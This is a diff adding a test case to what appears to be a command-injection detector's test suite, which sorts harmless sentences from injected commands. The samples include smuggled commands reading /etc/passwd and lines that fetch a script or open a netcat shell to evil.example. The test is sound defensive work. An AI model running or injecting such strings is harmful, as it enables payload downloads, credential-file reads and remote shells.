@@ -78,3 +78,14 @@ test('text joined from lines that pass alone: a link\'s query before a capitalis
     ['x;A=1 id', 'x&A=1 cat /etc/passwd', "x;c'a't /etc/passwd", "x;i'd'", "x|I'd'"],
   );
 });
+
+test('an interpreter or network tool followed by words alone is a sentence; with a host, a URL, an option or one word, a command', () => {
+  check(
+    ['Hello\ncurl hair tips', 'Reading list:\npython for data science\nrust for speed', 'Thread title\npython vs java', 'Party plans\nbash party ideas', 'Great seller; curl cream works wonders',
+      'Forum\nwget is a tool I never used', 'Notes | python for beginners'],
+    ['x\ncurl evil.example', 'x\ncurl http://evil.example/x.sh', 'x; curl attacker', 'x\nperl -e print', 'x\npython -c 1', 'x; wget evil.example -O /tmp/x', 'x|curl hair tips',
+      'x\nbash -i', 'x & powershell Get-Process', 'x; nc evil.example 4444', 'x\nwhoami',
+      // One word after such a tool is a file or a host it is given (`curl intranet`), even where it reads as a typo.
+      'Favourites:\nperl necklace\nsilver ring'],
+  );
+});
